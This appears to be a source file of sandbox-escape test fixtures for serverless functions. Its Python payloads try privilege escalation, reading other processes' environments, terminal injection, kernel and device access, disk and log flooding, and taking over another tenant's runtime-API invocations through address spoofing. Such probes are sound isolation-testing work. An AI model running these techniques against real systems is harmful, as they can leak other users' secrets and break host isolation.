/** Functions that try to get out of their environment, or at others, and tell how far they came. */

/** Python, whose ctypes makes any system call: each action returns what it got, or the name of the error. */
export const INTRUDER = `
import ctypes, errno, os, signal, socket, subprocess, urllib.request

libc = ctypes.CDLL(None, use_errno=True)

def outcome(attempt):
    try:
        result = attempt()
        return 'done' if result is None else result
    except OSError as error:
        reason = getattr(error, 'reason', error)
        return errno.errorcode.get(getattr(reason, 'errno', None), type(reason).__name__)

def call(function, *args):
    if getattr(libc, function)(*args) < 0:
        raise OSError(ctypes.get_errno(), function)

def read(path):
    with open(path, 'rb') as file:
        return file.read(1 << 20).decode('latin-1')

def write(path):
    with open(path, 'a') as file:
        file.write('x')

# Nothing is written: what would succeed must not change the host that runs this test.
def open_for_writing(path):
    os.close(os.open(path, os.O_WRONLY))

def connect(host, port):
    socket.create_connection((host, port), timeout=5).close()

def get(url):
    with urllib.request.urlopen(url, timeout=5) as answer:
        return answer.read().decode()

def make_device():
    if not os.path.exists('/tmp/mem'):
        os.mknod('/tmp/mem', 0o600 | 0o020000, os.makedev(1, 1))
    return '/tmp/mem'

def processes():
    return [read('/proc/%s/environ' % name) for name in os.listdir('/proc') if name.isdigit() and name != '1']

def signals():
    inside = {int(name) for name in os.listdir('/proc') if name.isdigit()}
    reached = []
    for number in range(2, 4096):
        try:
            os.kill(number, 0)
        except ProcessLookupError:
            continue
        if number not in inside and not os.path.exists('/proc/%d' % number):
            reached.append(number)
    return reached

def fill():
    written = 0
    with open('/tmp/bomb', 'wb', buffering=0) as file:
        try:
            while True:
                written += file.write(bytes(1 << 20))
        except OSError as error:
            return [errno.errorcode[error.errno], written]
        finally:
            os.unlink('/tmp/bomb')

SYSTEM = {
    'mount': lambda: call('mount', b'none', b'/tmp', b'tmpfs', 0, None),
    'umount': lambda: call('umount2', b'/var/task', 2),
    'new user namespace': lambda: call('unshare', 0x10000000),
    'new network namespace': lambda: call('unshare', 0x40000000),
    'clone into a user namespace': lambda: call('syscall', {'x86_64': 56, 'aarch64': 220}[os.uname().machine], 0x10000000 | 17, 0, 0, 0, 0),
    'trace': lambda: call('ptrace', 16, 1, None, None),
    'load a module': lambda: call('syscall', {'x86_64': 175, 'aarch64': 105}[os.uname().machine], None, 0, b''),
    'packet socket': lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close(),
    'netlink of the firewall': lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12).close(),
    'socket of the kernel for ciphers': lambda: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET).close(),
    # The kernel reads the lower half of the number alone.
    'push into a terminal': lambda: call('ioctl', 0, ctypes.c_ulong(0x5412)),
    'push into a terminal, unseen': lambda: call('ioctl', 0, ctypes.c_ulong(0x100005412)),
    'raw socket': lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close(),
    'make a device': lambda: make_device() and None,
    'open a device that was made': lambda: read(make_device()),
    'open memory': lambda: read('/dev/mem'),
    'open kernel memory': lambda: read('/dev/kmsg'),
    'change the host name': lambda: socket.sethostname('intruder'),
    'become root': lambda: os.setuid(0),
    'change the root': lambda: os.chroot('/tmp'),
    'kernel settings': lambda: open_for_writing('/proc/sys/kernel/core_pattern'),
    'system requests': lambda: open_for_writing('/proc/sysrq-trigger'),
}

ACTIONS = {
    'read': lambda event: {path: outcome(lambda: read(path)) for path in event['paths']},
    'list': lambda event: {path: outcome(lambda: os.listdir(path)) for path in event['paths']},
    'write': lambda event: {path: outcome(lambda: write(path)) for path in event['paths']},
    'connect': lambda event: [outcome(lambda: connect(host, port)) for host, port in event['places']],
    'get': lambda event: outcome(lambda: get(event['url'])),
    'system': lambda event: {name: outcome(attempt) for name, attempt in SYSTEM.items()},
    'processes': lambda event: processes(),
    'signals': lambda event: signals(),
    'fill': lambda event: fill(),
    'address': lambda event: address(),
    'runtimeApi': lambda event: os.environ['AWS_LAMBDA_RUNTIME_API'],
    'serve': lambda event: serve(),
    'hide': lambda event: hide(),
    # Its name is in the command line, by which the host finds it.
    'leave': lambda event: subprocess.Popen([event['name'], 'infinity'], executable='/usr/bin/sleep').pid,
}

def address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        host = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')[0]
        probe.connect((host, 9))
        return probe.getsockname()[0]

listener = None

def serve():
    global listener
    listener = listener or socket.create_server(('0.0.0.0', 0))
    return [address(), listener.getsockname()[1]]

def hide():
    write('/tmp/hidden')
    with open('/tmp/hidden') as file:
        return file.read()

def handler(event, context):
    return ACTIONS[event['action']](event)
`;

/** A custom runtime that, on an event, asks for the events of another one at every address it could be had by. */
export const INTRUDING_RUNTIME = `#!/usr/bin/env python3
import errno, http.client, json, os, socket

PATH = '/2018-06-01/runtime/invocation/'
OWN = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')
IP_FREEBIND = 15

def ask(host, port, path=PATH + 'next', method='GET', source=None):
    connection = http.client.HTTPConnection(host, int(port), timeout=5)
    if source is not None:
        connection._create_connection = lambda *_: connect_from(source, host, int(port))
    connection.request(method, path, body=None if method == 'GET' else '"stolen"')
    answer = connection.getresponse()
    body = answer.read()
    request = answer.headers.get('Lambda-Runtime-Aws-Request-Id')
    connection.close()
    return request or str(answer.status), body

def connect_from(source, host, port):
    client = socket.socket()
    client.settimeout(5)
    client.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
    client.bind((source, 0))
    client.connect((host, port))
    return client

def outcome(*args, **options):
    try:
        return ask(*args, **options)[0]
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)

def address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((OWN[0], 9))
        return probe.getsockname()[0]

def steal(event):
    theirs = event['address']
    on_loopback = theirs.replace('169.', '127.', 1)
    return {
        # While it runs, the runtime API gives the same event again.
        'own': outcome(*OWN),
        'foreign': [
            outcome(theirs, 9001),
            outcome(on_loopback, 24901),
            outcome(*OWN, source=theirs),
            outcome(*OWN, source=on_loopback),
            outcome(*OWN, path=PATH + event['requestId'] + '/response', method='POST'),
        ],
    }

while True:
    request, body = ask(*OWN)
    event = json.loads(body)
    answer = steal(event) if event['action'] == 'steal' else {'address': address()}
    connection = http.client.HTTPConnection(*OWN)
    connection.request('POST', PATH + request + '/response', json.dumps({**answer, 'requestId': request}))
    connection.getresponse().read()
    connection.close()
`;

/** Prints for ever: the longest lines that a read of a pipe may have, or the shortest. */
export const LOG_BOMB = `
import os

BLOCK = b'x' * 65535 + b'\\n' if os.environ['LINES'] == 'long' else b'\\n' * 65536

def handler(event, context):
    while True:
        os.write(1, BLOCK)
`;
